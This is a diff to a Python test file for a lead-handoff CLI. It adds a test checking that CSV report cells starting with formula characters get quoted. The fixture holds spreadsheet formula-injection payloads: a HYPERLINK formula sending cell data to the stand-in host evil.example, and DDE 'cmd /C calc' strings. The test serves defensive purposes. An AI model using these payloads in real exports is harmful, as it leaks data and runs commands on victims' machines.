@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 import subprocess
@@ -155,3 +157,41 @@ def test_console_script_is_installed() -> None:
     script = shutil.which("handoff") or str(Path(sys.prefix, "bin", "handoff"))
     result = subprocess.run([script, "--help"], capture_output=True, text=True, check=False)
     assert result.returncode == 0 and "definition" in result.stdout
+
+
+FORMULAS = {
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")': "webinar",
+    "+cmd|' /C calc'!A0": "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "\t=1+1",  # the intake's trim drops the tab: "=1+1"
+    "Plain": " \r=2+2",
+}
+
+
+def test_report_csv_cells_a_spreadsheet_would_run_are_quoted(env, tmp_path) -> None:
+    """Sources and campaigns are lead data: in CSV a formula arrives as text (a leading
+    apostrophe, which spreadsheets hide), whatever whitespace comes before it."""
+    path = tmp_path / "leads.jsonl"
+    path.write_text(
+        "".join(
+            json.dumps(lead(f"f{i}", source=source, campaign=campaign)) + "\n"
+            for i, (source, campaign) in enumerate(FORMULAS.items())
+        )
+    )
+    assert invoke("import", str(path)).exit_code == 0
+    cells = {}
+    for by in ("source", "campaign"):
+        result = invoke("report", "--by", by, "--format", "csv")
+        assert result.exit_code == 0, result.stderr
+        rows = list(csv.reader(io.StringIO(result.stdout)))
+        assert rows[0][:2] == ["group", "handed_off"]
+        cells[by] = {row[0]: row[1] for row in rows[1:]}
+        for row in rows:
+            for cell in row:
+                assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert cells["source"] == {
+        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")': "1",
+        "'+cmd|' /C calc'!A0": "1",
+        "'@SUM(1+1)*cmd|' /C calc'!A0": "1",
+        "Plain": "1",
+    }
+    assert cells["campaign"] == {"webinar": "1", "'-2+3": "1", "'=1+1": "1", "'=2+2": "1"}
